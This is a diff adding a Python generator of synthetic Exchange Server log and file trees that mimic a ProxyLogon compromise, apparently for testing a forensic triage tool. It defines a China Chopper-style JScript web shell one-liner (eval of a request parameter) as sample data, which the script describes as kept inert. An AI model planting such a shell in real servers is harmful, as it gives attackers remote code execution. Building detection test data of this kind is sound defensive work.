@@ -1,0 +1,1671 @@
+#!/usr/bin/env python3
+"""Generate the synthetic Exchange evidence trees under Samples/images/.
+
+EXTRIAGE SYNTHETIC SAMPLE GENERATOR. Python 3 standard library only, deterministic
+(fixed seeds): running it twice gives byte-identical trees.
+
+    python3 Samples/tools/make_samples.py            # (re)write both trees + README table
+    python3 Samples/tools/make_samples.py --check    # regenerate into a temp dir and diff
+
+It writes two Windows C: volume trees:
+
+  images/exchange2016-compromised/  Exchange 2016 CU19 (15.1.2176.2), EXCH01, hit by the
+                                    March 2021 ProxyLogon chain (CVE-2021-26855/-27065/-26858)
+  images/exchange2019-clean/        Exchange 2019 CU12 + Nov 2022 SU (15.2.1118.20), EXCH19,
+                                    installed at C:\\Exchange\\V15, ordinary traffic only
+
+and rewrites the block between the GENERATED markers in Samples/README.md with the list of
+planted traces and their line numbers.
+
+Safety: every shell-like file is inert. The whole file body sits inside one ASP.NET
+server-side comment (<%-- ... --%>), which the ASP.NET page parser discards before
+compiling, so IIS never runs any of it; the first line says so. Nothing here contains
+real malware, real process memory or real credentials.
+"""
+
+from __future__ import annotations
+
+import argparse
+import csv
+import datetime as dt
+import filecmp
+import io
+import os
+import pathlib
+import random
+import shutil
+import struct
+import sys
+import tempfile
+import uuid
+import zipfile
+from dataclasses import dataclass, field
+
+sys.dont_write_bytecode = True  # keep Samples/tools free of __pycache__
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
+from make_minidump import build as build_minidump  # noqa: E402
+
+SAMPLES = pathlib.Path(__file__).resolve().parent.parent
+README = SAMPLES / "README.md"
+CRLF = "\r\n"
+BOM = "\ufeff"
+UTC = dt.timezone.utc
+
+INERT_BANNER = "EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only"
+
+# --------------------------------------------------------------------------------------
+# Log format constants (see Samples/README.md and shared docs EXCHANGE-ARTIFACTS.md §2)
+# --------------------------------------------------------------------------------------
+
+HTTPPROXY_FIELDS = (
+    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,"
+    "Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,"
+    "Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,"
+    "ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
+    "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
+    "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,"
+    "GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,"
+    "ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,"
+    "TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,"
+    "ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,"
+    "BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,"
+    "HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,"
+    "CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,"
+    "BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,"
+    "PartitionEndpointLookupLatency,RoutingStatus"
+).split(",")
+
+RPS_CMDLET_FIELDS = (
+    "DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,BuildVersion,"
+    "RevisionVersion,ServerHostName,ProcessId,ProcessName,ThreadId,CultureInfo,Organization,"
+    "AuthenticatedUser,ExecutingUserSid,EffectiveOrganization,UserServicePlan,IsAdmin,"
+    "ClientApplication,Cmdlet,Parameters,CmdletUniqueId,UserBudgetOnStart,ContributeToFailFast,"
+    "RunspaceSettingsCreationHint,ADViewEntireForest,ADRecipientViewRoot,"
+    "ADConfigurationDomainControllers,ADPreferredGlobalCatalogs,ADPreferredDomainControllers,"
+    "ADUserConfigurationDomainController,ADUserPreferredGlobalCatalog,"
+    "ADuserPreferredDomainControllers,ThrottlingInfo,DelayInfo,ThrottlingDelay,"
+    "IsOutputObjectRedacted,CmdletProxyStage,CmdletProxyRemoteServer,"
+    "CmdletProxyRemoteServerVersion,CmdletProxyMethod,ProxiedObjectCount,CmdletProxyLatency,"
+    "OutputObjectCount,ParameterBinding,BeginProcessing,ProcessRecord,EndProcessing,"
+    "StopProcessing,BizLogic,PowerShellLatency,UserInteractionLatency,ProvisioningLayerLatency,"
+    "ActivityContextLifeTime,TotalTime,ErrorType,ExecutionResult,CacheHitCount,CacheMissCount,"
+    "GenericLatency,GenericInfo,GenericErrors,ObjectGuid,ExternalDirectoryOrganizationId,"
+    "ExternalDirectoryObjectId,NonPiiParameters"
+).split(",")
+
+# The public record does not show the OABGenerator log's column list; this layout is
+# synthetic. EXCHANGE-ARTIFACTS.md §2.4: treat the file as text, do not rely on columns.
+OAB_FIELDS = "DateTime,ServerName,ProcessId,ThreadId,Level,Component,OABName,Message".split(",")
+
+IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
+              "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
+HTTPERR_FIELDS = ("date time c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid "
+                  "sc-status s-siteid s-reason s-queuename")
+
+SCRIPT_PAYLOAD = ('<script language="JScript" runat="server">function Page_Load()'
+                  '{eval(Request["klk123456"],"unsafe");}</script>')
+CHOPPER_URL = "http://f/" + SCRIPT_PAYLOAD
+
+
+def iso_ms(t: dt.datetime) -> str:
+    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"
+
+
+def w3c_date(t: dt.datetime) -> str:
+    return t.strftime("%Y-%m-%d")
+
+
+def w3c_time(t: dt.datetime) -> str:
+    return t.strftime("%H:%M:%S")
+
+
+def csv_line(values) -> str:
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator="", quoting=csv.QUOTE_MINIMAL)
+    w.writerow(["" if v is None else str(v) for v in values])
+    s = buf.getvalue()
+    assert "\n" not in s and "\r" not in s, s
+    return s
+
+
+def exch_version_int(major: int, minor: int, build: int) -> int:
+    """Exchange's packed ServerVersion integer as seen in FEAuth=BEVersion-<n> and cookies."""
+    return 0x70000000 | (major << 22) | (minor << 16) | 0x8000 | build
+
+
+def ua_for_exchange_csv(ua: str) -> str:
+    # Exchange's CSV logs replace commas in the user agent by spaces ("KHTML  like Gecko").
+    return ua.replace(",", " ")
+
+
+def ua_for_iis(ua: str) -> str:
+    return ua.replace(" ", "+") if ua else "-"
+
+
+# --------------------------------------------------------------------------------------
+# Output helpers with trace bookkeeping
+# --------------------------------------------------------------------------------------
+
+@dataclass
+class Trace:
+    check: str
+    what: str
+    ids: str
+    tier: str
+
+
+@dataclass
+class Line:
+    text: str
+    trace: Trace | None = None
+
+
+class LogFile:
+    def __init__(self) -> None:
+        self.lines: list[Line] = []
+
+    def add(self, text: str, trace: Trace | None = None) -> None:
+        self.lines.append(Line(text, trace))
+
+
+@dataclass
+class TraceRow:
+    path: str
+    line: int | None
+    trace: Trace
+
+
+class Tree:
+    def __init__(self, root: pathlib.Path) -> None:
+        self.root = root
+        self.traces: list[TraceRow] = []
+
+    def _path(self, rel: str) -> pathlib.Path:
+        p = self.root / rel
+        p.parent.mkdir(parents=True, exist_ok=True)
+        return p
+
+    def write_log(self, rel: str, log: LogFile, bom: bool = False) -> None:
+        text = CRLF.join(line.text for line in log.lines) + CRLF
+        if bom:
+            text = BOM + text
+        self._path(rel).write_bytes(text.encode("utf-8"))
+        for i, line in enumerate(log.lines, start=1):
+            if line.trace:
+                self.traces.append(TraceRow(rel, i, line.trace))
+
+    def write_text(self, rel: str, text: str, trace: Trace | None = None, crlf: bool = True,
+                   encoding: str = "utf-8") -> None:
+        body = text.replace("\r\n", "\n")
+        if crlf:
+            body = body.replace("\n", CRLF)
+        self._path(rel).write_bytes(body.encode(encoding))
+        if trace:
+            self.traces.append(TraceRow(rel, None, trace))
+
+    def write_bytes(self, rel: str, data: bytes, trace: Trace | None = None) -> None:
+        self._path(rel).write_bytes(data)
+        if trace:
+            self.traces.append(TraceRow(rel, None, trace))
+
+    def add_trace(self, rel: str, line: int | None, trace: Trace) -> None:
+        self.traces.append(TraceRow(rel, line, trace))
+
+
+# --------------------------------------------------------------------------------------
+# Server profile
+# --------------------------------------------------------------------------------------
+
+@dataclass
+class User:
+    sam: str
+    rid: int
+    ip: str
+    browser: str
+    mail_client: str
+    mbx: str = ""
+
+    def upn(self, dom: str) -> str:
+        return f"{self.sam}@{dom}"
+
+
+@dataclass
+class Server:
+    short: str
+    fqdn: str
+    ip: str
+    ext_host: str
+    dom: str
+    netbios: str
+    domain_sid: str
+    build: tuple[int, int, int, int]
+    exch_rel: str           # install dir relative to the volume root, '/' separators
+    exch_win: str           # the same as a Windows path, no trailing backslash
+    folders: dict[str, str]  # HttpProxy protocol -> folder spelling
+    health: str
+    health_guid: str
+    oab_guid: str
+    oab_vdir_guid: str
+    users: dict[str, User]
+    rng: random.Random
+    os_build: str
+
+    @property
+    def ver_header(self) -> str:
+        a, b, c, d = self.build
+        return f"{a:02d}.{b:02d}.{c:04d}.{d:03d}"
+
+    @property
+    def ver_dotted(self) -> str:
+        return ".".join(str(x) for x in self.build)
+
+    @property
+    def target_ver(self) -> str:
+        a, b, c, _ = self.build
+        return f"{a:02d}.{b:02d}.{c:04d}.000"
+
+    @property
+    def ver_int(self) -> int:
+        return exch_version_int(*self.build[:3])
+
+    def sid(self, rid: int) -> str:
+        return f"{self.domain_sid}-{rid}"
+
+    def guid(self) -> str:
+        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))
+
+    def hexid(self, n: int = 32) -> str:
+        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))
+
+
+# --------------------------------------------------------------------------------------
+# Web request model -> HttpProxy rows, IIS W3SVC1 (front end) and W3SVC2 (back end) lines
+# --------------------------------------------------------------------------------------
+
+@dataclass
+class Req:
+    end: dt.datetime
+    method: str
+    stem: str
+    query: str = ""                 # without '?', before Exchange's CorrelationID suffix
+    proto: str | None = None        # HttpProxy protocol; None = not handled by HttpProxy
+    host: str = ""
+    ua: str = ""
+    cip: str = ""
+    status: int = 200
+    substatus: int = 0
+    win32: int = 0
+    iis_user: str = "-"
+    auth_type: str = ""
+    is_auth: bool = False
+    auth_user: str = ""
+    anchor: str = ""
+    proxied: bool = True            # ProxyAction=Proxy and a back-end line
+    be_status: int | None = None
+    be_stem: str | None = None
+    be_query: str | None = None
+    be_user: str | None = None
+    target_server: str | None = None
+    routing_type: str = "IntraForest"
+    routing_hint: str = ""
+    backend_cookie: str = ""
+    protocol_action: str = ""
+    generic_errors: str = ""
+    error_code: str = ""
+    latency: int = 40
+    req_bytes: int = 0
+    resp_bytes: int = 0
+    owa_encoding: bool = False
+    rid: str = ""
+    iis_trace: Trace | None = None
+    proxy_trace: Trace | None = None
+    be_trace: Trace | None = None
+
+
+def httpproxy_row(srv: Server, r: Req) -> list[str]:
+    begin = r.end - dt.timedelta(milliseconds=r.latency)
+    v = dict.fromkeys(HTTPPROXY_FIELDS, "")
+    a, b, c, d = srv.build
+    v.update({
+        "DateTime": iso_ms(r.end), "RequestId": r.rid,
+        "MajorVersion": a, "MinorVersion": b, "BuildVersion": c, "RevisionVersion": d,
+        "Protocol": r.proto, "UrlHost": r.host, "UrlStem": r.stem,
+        "ProtocolAction": r.protocol_action,
+        "AuthenticationType": r.auth_type, "IsAuthenticated": "true" if r.is_auth else "false",
+        "AuthenticatedUser": r.auth_user, "AnchorMailbox": r.anchor,
+        "UserAgent": ua_for_exchange_csv(r.ua), "ClientIpAddress": r.cip,
+        "ServerHostName": srv.short, "HttpStatus": r.status, "ErrorCode": r.error_code,
+        "Method": r.method,
+        "UrlQuery": ("?" + r.query) if r.query else "",
+        "GenericErrors": r.generic_errors,
+        "TotalRequestTime": r.latency,
+        "HttpPipelineLatency": 0,
+        "RequestBytes": r.req_bytes or "",
+        "ResponseBytes": r.resp_bytes or "",
+    })
+    if r.proxied:
+        be_end = r.end - dt.timedelta(milliseconds=1)
+        be_begin = begin + dt.timedelta(milliseconds=min(5, r.latency // 4))
+        v.update({
+            "BackEndStatus": r.be_status if r.be_status is not None else r.status,
+            "ProxyAction": "Proxy",
+            "TargetServer": r.target_server if r.target_server is not None else srv.fqdn,
+            "TargetServerVersion": srv.target_ver,
+            "RoutingType": r.routing_type, "RoutingHint": r.routing_hint,
+            "BackEndCookie": r.backend_cookie,
+            "CalculateTargetBackEndLatency": 0, "ActivityContextLifeTime": r.latency,
+            "ModuleToHandlerSwitchingLatency": 0, "BackendProcessingLatency": max(1, r.latency - 6),
+            "ProxyTime": max(1, r.latency - 4), "CoreLatency": r.latency,
+            "RoutingLatency": 1, "HttpProxyOverhead": 3,
+            "GenericInfo": (
+                f"BeginRequest={iso_ms(begin)};CorrelationID=<empty>;ProxyState-Run=None;"
+                f"FEAuth=BEVersion-{srv.ver_int};"
+                f"BeginGetResponse={iso_ms(be_begin)};OnResponseReady={iso_ms(be_end)};"
+                f"EndGetResponse={iso_ms(be_end)};ProxyState-Complete=ProxyResponseData;"
+                f"SharedCacheGuard=0;EndRequest={iso_ms(r.end)};"),
+        })
+    else:
+        v.update({
+            "RoutingType": "", "ActivityContextLifeTime": r.latency,
+            "GenericInfo": (f"BeginRequest={iso_ms(begin)};CorrelationID=<empty>;"
+                            f"SharedCacheGuard=0;EndRequest={iso_ms(r.end)};"),
+        })
+    return [v[f] for f in HTTPPROXY_FIELDS]
+
+
+def iis_fe_line(srv: Server, r: Req) -> str:
+    if r.proto is not None:
+        suffix = f"&CorrelationID=<empty>;&cafeReqId={r.rid};"
+        if r.owa_encoding:
+            suffix += "&encoding=;"
+        q = (r.query + suffix) if r.query else suffix
+    else:
+        q = r.query or "-"
+    return " ".join([
+        w3c_date(r.end), w3c_time(r.end), srv.ip, r.method, r.stem, q, "443", r.iis_user or "-",
+        r.cip, ua_for_iis(r.ua), "-", str(r.status), str(r.substatus), str(r.win32),
+        str(r.latency)])
+
+
+def iis_be_line(srv: Server, r: Req) -> str:
+    t = r.end - dt.timedelta(milliseconds=2)
+    stem = r.be_stem or r.stem
+    q = r.be_query if r.be_query is not None else r.query
+    return " ".join([
+        w3c_date(t), w3c_time(t), srv.ip, r.method, stem, q or "-", "444",
+        r.be_user or r.iis_user or "-", srv.ip, ua_for_iis(r.ua), "-",
+        str(r.be_status if r.be_status is not None else r.status), "0", "0",
+        str(max(1, r.latency - 6))])
+
+
+def iis_header(t: dt.datetime, software: str = "Microsoft Internet Information Services 10.0") -> list[str]:
+    return [f"#Software: {software}", "#Version: 1.0",
+            f"#Date: {w3c_date(t)} {w3c_time(t)}", f"#Fields: {IIS_FIELDS}"]
+
+
+def exchange_header(srv_version: str, log_type: str, t: dt.datetime, fields: list[str]) -> list[str]:
+    return ["#Software: Microsoft Exchange Server", f"#Version: {srv_version}",
+            f"#Log-type: {log_type}", f"#Date: {iso_ms(t)}", "#Fields: " + ",".join(fields)]
+
+
+# --------------------------------------------------------------------------------------
+# Ordinary traffic
+# --------------------------------------------------------------------------------------
+
+PROTOCOLS = ["Autodiscover", "Eas", "Ecp", "Ews", "Mapi", "Oab", "Owa", "PowerShell"]
+AMPROBE = "AMProbe/Local/ClientAccess"
+
+
+def probe(srv: Server, proto: str, t: dt.datetime) -> Req:
+    rng = srv.rng
+    h = srv.health
+    hu = f"{srv.netbios}\\{h}"
+    smtp = f"Smtp~{h}@{srv.dom}"
+    common = dict(end=t, proto=proto, host="localhost", cip="127.0.0.1", ua=AMPROBE,
+                  iis_user=hu, is_auth=True, auth_user=hu, routing_hint="WindowsIdentity",
+                  latency=rng.randint(8, 60), req_bytes=rng.randint(200, 900),
+                  resp_bytes=rng.randint(300, 9000))
+    if proto == "Autodiscover":
+        return Req(method="POST", stem="/Autodiscover/Autodiscover.xml", auth_type="Basic",
+                   anchor=smtp, **common)
+    if proto == "Eas":
+        return Req(method="POST", stem="/Microsoft-Server-ActiveSync/default.eas",
+                   query=f"Cmd=FolderSync&User={h}&DeviceId=EASProbeDeviceId&DeviceType=EASProbeDeviceType",
+                   auth_type="Basic", anchor=f"Sid~{srv.sid(1151)}",
+                   be_stem="/Microsoft-Server-ActiveSync/Proxy/default.eas", **common)
+    if proto == "Ecp":
+        common.update(cip="::1")
+        return Req(method="GET", stem="/ecp/", auth_type="Negotiate", anchor=smtp,
+                   owa_encoding=False, **common)
+    if proto == "Ews":
+        return Req(method="POST", stem="/EWS/Exchange.asmx", auth_type="Basic", anchor=smtp,
+                   **common)
+    if proto == "Mapi":
+        return Req(method="POST", stem="/mapi/emsmdb/",
+                   query=f"MailboxId={srv.health_guid}@{srv.dom}", auth_type="Negotiate",
+                   anchor=f"MailboxGuid~{srv.health_guid}@{srv.dom}",
+                   protocol_action="Connect", **{**common, "routing_hint": "MailboxGuidWithDomain"})
+    if proto == "Oab":
+        return Req(method="GET", stem=f"/OAB/{srv.oab_guid}/oab.xml", auth_type="Negotiate",
+                   anchor=smtp, **common)
+    if proto == "Owa":
+        common.update(cip="::1")
+        return Req(method="GET", stem="/owa/", auth_type="Negotiate", anchor=smtp,
+                   owa_encoding=True, **common)
+    if proto == "PowerShell":
+        a, b, c, d = srv.build
+        common.update(ua="Microsoft WinRM Client", host=srv.fqdn)
+        return Req(method="POST", stem="/powershell", auth_type="Kerberos",
+                   anchor=f"ServerVersion~Version {a}.{b} (Build {c}.{d})",
+                   query=f"clientApplication=ActiveMonitor;PSVersion={srv.os_build}",
+                   protocol_action="Get-Mailbox:Command",
+                   backend_cookie=(f"Server~{srv.fqdn}~{srv.ver_int}~"
+                                   f"{(t + dt.timedelta(minutes=10)).strftime('%Y-%m-%dT%H:%M:%S')}"),
+                   **{**common, "routing_hint": "ExchClientVer-ServerCookie"})
+    raise ValueError(proto)
+
+
+def user_request(srv: Server, u: User, kind: str, t: dt.datetime) -> list[Req]:
+    rng = srv.rng
+    nb = f"{srv.netbios}\\{u.sam}"
+    upn = u.upn(srv.dom)
+    ext = u.ip.startswith("100.64.")
+    host = srv.ext_host if ext or kind.startswith("owa") else srv.fqdn
+    base = dict(cip=u.ip, host=host, latency=rng.randint(15, 400),
+                req_bytes=rng.randint(300, 6000), resp_bytes=rng.randint(500, 60000))
+    if kind == "owa":
+        return [
+            Req(end=t, proto="Owa", method="GET", stem="/owa/", ua=u.browser, iis_user=nb,
+                auth_type="FBA", is_auth=True, auth_user=nb, anchor=f"Smtp~{upn}",
+                routing_hint="OwaCookie-Smtp", owa_encoding=True, **base),
+            Req(end=t + dt.timedelta(seconds=2, milliseconds=rng.randint(0, 999)), proto="Owa",
+                method="POST", stem="/owa/service.svc",
+                query=f"action=FindItem&app=Mail&n={rng.randint(10, 90)}", ua=u.browser,
+                iis_user=nb, auth_type="FBA", is_auth=True, auth_user=nb, anchor=f"Smtp~{upn}",
+                routing_hint="OwaCookie-Smtp", protocol_action="FindItem", **base),
+        ]
+    if kind == "owa-logon":
+        return [
+            Req(end=t, proto="Owa", method="GET", stem="/owa/auth/logon.aspx",
+                query=f"url=https%3a%2f%2f{srv.ext_host}%2fowa%2f&reason=0", ua=u.browser,
+                proxied=False, owa_encoding=True, **base),
+            Req(end=t + dt.timedelta(seconds=6, milliseconds=rng.randint(0, 999)), proto="Owa",
+                method="POST", stem="/owa/auth.owa", ua=u.browser, status=302, proxied=False,
+                owa_encoding=True, **base),
+        ]
+    if kind == "ews":
+        return [
+            Req(end=t - dt.timedelta(milliseconds=180), proto="Ews", method="POST",
+                stem="/EWS/Exchange.asmx", ua=u.mail_client, status=401, substatus=1,
+                win32=2148074254, proxied=False, **base),
+            Req(end=t, proto="Ews", method="POST", stem="/EWS/Exchange.asmx", ua=u.mail_client,
+                iis_user=nb, auth_type="NTLM", is_auth=True, auth_user=nb,
+                anchor=f"Sid~{srv.sid(u.rid)}", routing_hint="WindowsIdentity", **base),
+        ]
+    if kind == "mapi":
+        return [Req(end=t, proto="Mapi", method="POST", stem="/mapi/emsmdb/",
+                    query=f"MailboxId={u.mbx}@{srv.dom}", ua=u.mail_client, iis_user=nb,
+                    auth_type="Negotiate", is_auth=True, auth_user=nb,
+                    anchor=f"MailboxGuid~{u.mbx}@{srv.dom}", routing_hint="MailboxGuidWithDomain",
+                    protocol_action="Execute", **base),
+                Req(end=t + dt.timedelta(milliseconds=rng.randint(300, 2000)), proto="Mapi",
+                    method="POST", stem="/mapi/nspi/", query=f"MailboxId={u.mbx}@{srv.dom}",
+                    ua=u.mail_client, iis_user=nb, auth_type="Negotiate", is_auth=True,
+                    auth_user=nb, anchor=f"MailboxGuid~{u.mbx}@{srv.dom}",
+                    routing_hint="MailboxGuidWithDomain", protocol_action="Bind", **base)]
+    if kind == "autodiscover":
+        return [Req(end=t, proto="Autodiscover", method="POST",
+                    stem="/autodiscover/autodiscover.xml", ua=u.mail_client, iis_user=nb,
+                    auth_type="NTLM", is_auth=True, auth_user=nb, anchor=f"Smtp~{upn}",
+                    routing_hint="WindowsIdentity",
+                    backend_cookie=f"Database~{u.mbx}~~{(t + dt.timedelta(days=30)).strftime('%Y-%m-%dT%H:%M:%S')}~{srv.dom}~1",
+                    **base)]
+    if kind == "oab":
+        return [Req(end=t, proto="Oab", method="GET", stem=f"/OAB/{srv.oab_guid}/oab.xml",
+                    ua=u.mail_client, iis_user=nb, auth_type="Negotiate", is_auth=True,
+                    auth_user=nb, anchor=f"Smtp~{upn}", routing_hint="WindowsIdentity", **base)]
+    if kind == "eas":
+        dev = "ApplF2LXK0CQN1P4"
+        return [Req(end=t, proto="Eas", method="POST", stem="/Microsoft-Server-ActiveSync/default.eas",
+                    query=f"Cmd=Sync&User={u.sam}&DeviceId={dev}&DeviceType=iPhone",
+                    ua=u.mail_client, iis_user=upn, auth_type="Basic", is_auth=True, auth_user=nb,
+                    anchor=f"Sid~{srv.sid(u.rid)}", routing_hint="WindowsIdentity",
+                    protocol_action="Sync",
+                    be_stem="/Microsoft-Server-ActiveSync/Proxy/default.eas", **base)]
+    raise ValueError(kind)
+
+
+def admin_ecp(srv: Server, u: User, t: dt.datetime, canary: str) -> list[Req]:
+    nb = f"{srv.netbios}\\{u.sam}"
+    base = dict(cip=u.ip, host=srv.fqdn, ua=u.browser, iis_user=nb, auth_type="FBA", is_auth=True,
+                auth_user=nb, anchor=f"Sid~{srv.sid(u.rid)}", routing_hint="EcpOwaCookie-Sid",
+                proto="Ecp")
+    return [
+        Req(end=t, method="GET", stem="/ecp/", latency=380, **base),
+        Req(end=t + dt.timedelta(seconds=3, milliseconds=214), method="POST",
+            stem="/ecp/DDI/DDIService.svc/GetList",
+            query=f"schema=MailboxService&msExchEcpCanary={canary}", latency=612, **base),
+    ]
+
+
+def admin_ps(srv: Server, u: User, t: dt.datetime, action: str) -> Req:
+    nb = f"{srv.netbios}\\{u.sam}"
+    a, b, c, d = srv.build
+    return Req(end=t, proto="PowerShell", method="POST", stem="/powershell",
+               query=("serializationLevel=Full;ExchClientVer=" + srv.ver_dotted +
+                      f";clientApplication=ManagementShell;TargetServer=;PSVersion={srv.os_build}"),
+               host=srv.fqdn, cip=u.ip, ua="Microsoft WinRM Client", iis_user=nb,
+               auth_type="Kerberos", is_auth=True, auth_user=nb,
+               anchor=f"ServerVersion~Version {a}.{b} (Build {c}.{d})",
+               routing_hint="ExchClientVer-ServerCookie", protocol_action=action,
+               backend_cookie=(f"Server~{srv.fqdn}~{srv.ver_int}~"
+                               f"{(t + dt.timedelta(minutes=10)).strftime('%Y-%m-%dT%H:%M:%S')}"),
+               latency=srv.rng.randint(40, 900))
+
+
+def ordinary_traffic(srv: Server, start: dt.datetime, end: dt.datetime) -> list[Req]:
+    """One probe per protocol per hour plus user activity in business hours."""
+    rng = srv.rng
+    reqs: list[Req] = []
+    t = start
+    while t < end:
+        for i, proto in enumerate(PROTOCOLS):
+            pt = t + dt.timedelta(minutes=rng.randint(0, 59), seconds=rng.randint(0, 59),
+                                  milliseconds=rng.randint(0, 999))
+            if pt < end:
+                reqs.append(probe(srv, proto, pt))
+        busy = 7 <= t.hour <= 17
+        n_user = rng.randint(3, 5) if busy else rng.randint(0, 1)
+        for _ in range(n_user):
+            u = rng.choice([srv.users[k] for k in ("jdoe", "msmith", "akhan", "lchen")])
+            kinds = ["eas"] if u.sam == "lchen" else ["owa", "ews", "mapi", "autodiscover", "oab"]
+            if u.sam == "msmith":
+                kinds = ["owa", "owa-logon", "ews", "autodiscover"]
+            ut = t + dt.timedelta(minutes=rng.randint(0, 58), seconds=rng.randint(0, 59),
+                                  milliseconds=rng.randint(0, 999))
+            if ut < end:
+                reqs.extend(user_request(srv, u, rng.choice(kinds), ut))
+        t += dt.timedelta(hours=1)
+    return reqs
+
+
+def finish(srv: Server, reqs: list[Req]) -> list[Req]:
+    for r in reqs:
+        if not r.rid:
+            r.rid = srv.guid()
+    reqs.sort(key=lambda r: r.end)
+    return reqs
+
+
+def write_web_logs(tree: Tree, srv: Server, reqs: list[Req], hp_hours: list[dt.datetime],
+                   iis_days: list[dt.date], be_days: list[dt.date], lower_ext: set[tuple[str, str]],
+                   iis_logdir: str, restart_at: dt.datetime | None = None) -> None:
+    # HttpProxy: one file per protocol per hour in hp_hours (older hours aged out).
+    for hour in hp_hours:
+        for proto in PROTOCOLS:
+            rows = [r for r in reqs if r.proto == proto and hour <= r.end < hour + dt.timedelta(hours=1)]
+            log = LogFile()
+            first = hour + dt.timedelta(milliseconds=srv.rng.randint(20, 900))
+            for h in exchange_header(srv.ver_header, "HttpProxy Logs", first, HTTPPROXY_FIELDS):
+                log.add(h)
+            for r in rows:
+                log.add(csv_line(httpproxy_row(srv, r)), r.proxy_trace)
+            stamp = hour.strftime("%Y%m%d%H")
+            ext = "log" if (proto, stamp) in lower_ext else "LOG"
+            rel = f"{srv.exch_rel}/Logging/HttpProxy/{srv.folders[proto]}/HttpProxy_{stamp}-1.{ext}"
+            tree.write_log(rel, log, bom=True)
+    # IIS front end.
+    for day in iis_days:
+        day_reqs = [r for r in reqs if r.end.date() == day]
+        log = LogFile()
+        first = True
+        for r in day_reqs:
+            if first:
+                for h in iis_header(r.end):
+                    log.add(h)
+                first = False
+            if restart_at is not None and r.end >= restart_at and restart_at.date() == day:
+                for h in iis_header(restart_at + dt.timedelta(seconds=4)):
+                    log.add(h)
+                restart_at = None
+            log.add(iis_fe_line(srv, r), r.iis_trace)
+        tree.write_log(f"{iis_logdir}/W3SVC1/u_ex{day.strftime('%y%m%d')}.log", log)
+    # IIS back end (Exchange Back End site, port 444).
+    for day in be_days:
+        day_reqs = [r for r in reqs if r.end.date() == day and r.proto is not None and r.proxied]
+        log = LogFile()
+        for i, r in enumerate(day_reqs):
+            if i == 0:
+                for h in iis_header(r.end - dt.timedelta(milliseconds=2)):
+                    log.add(h)
+            log.add(iis_be_line(srv, r), r.be_trace)
+        tree.write_log(f"{iis_logdir}/W3SVC2/u_ex{day.strftime('%y%m%d')}.log", log)
+
+
+# --------------------------------------------------------------------------------------
+# ECP, OAB generator, Rps cmdlet, HTTPERR
+# --------------------------------------------------------------------------------------
+
+def ecp_server_data(srv: Server, ms: int, sid: str, cmd: str, url: str, actid: str, usid: str,
+                    ex: str = "") -> str:
+    return (f"S:TIME={ms};S:SID={sid};S:CMD={cmd};S:REQID=;S:URL={url};S:REFERRER=;S:EX={ex};"
+            f"S:ACTID={actid};S:RS=0;S:BLD={srv.ver_dotted};S:TNAME=<null>;S:TID=;S:USID={usid};"
+            f"S:EDOID=;S:ACID=")
+
+
+def ecp_activity_data(srv: Server, psa: str, url: str, actid: str, extra: str = "") -> str:
+    s = ""
+    if psa:
+        s += f"S:PSA={psa};"
+    s += f"S:URL={url};S:Bld={srv.ver_dotted};S:ActID={actid}"
+    return s + (";" + extra if extra else "")
+
+
+def rps_row(srv: Server, t: dt.datetime, user: str, sid: str, is_admin: bool, app: str,
+            cmdlet: str, params: str, result: str = "Success", pid: int = 7412,
+            generic_errors: str = "", output: int = 1) -> list[str]:
+    v = dict.fromkeys(RPS_CMDLET_FIELDS, "")
+    a, b, c, d = srv.build
+    start = t - dt.timedelta(milliseconds=srv.rng.randint(15, 400))
+    dc = f"DC01.{srv.dom}"
+    v.update({
+        "DateTime": iso_ms(t), "StartTime": iso_ms(start), "RequestId": srv.guid(),
+        "MajorVersion": a, "MinorVersion": b, "BuildVersion": c, "RevisionVersion": d,
+        "ServerHostName": srv.short, "ProcessId": pid,
+        "ProcessName": "w3wp#MSExchangePowerShellAppPool", "ThreadId": srv.rng.randint(20, 120),
+        "AuthenticatedUser": user, "ExecutingUserSid": sid, "IsAdmin": str(is_admin),
+        "ClientApplication": app, "Cmdlet": cmdlet, "Parameters": params,
+        "CmdletUniqueId": srv.guid(), "RunspaceSettingsCreationHint": "GCRandomly",
+        "ADViewEntireForest": "False", "ADRecipientViewRoot": srv.dom,
+        "ADConfigurationDomainControllers": dc, "ADPreferredGlobalCatalogs": dc,
+        "ADPreferredDomainControllers": dc, "OutputObjectCount": output,
+        "TotalTime": int((t - start).total_seconds() * 1000), "ExecutionResult": result,
+        "GenericInfo": f"PSSenderInfo={user};", "GenericErrors": generic_errors,
+        "NonPiiParameters": params,
+    })
+    return [v[f] for f in RPS_CMDLET_FIELDS]
+
+
+# --------------------------------------------------------------------------------------
+# Static file content
+# --------------------------------------------------------------------------------------
+
+def benign_aspx(title: str, inherits: str) -> str:
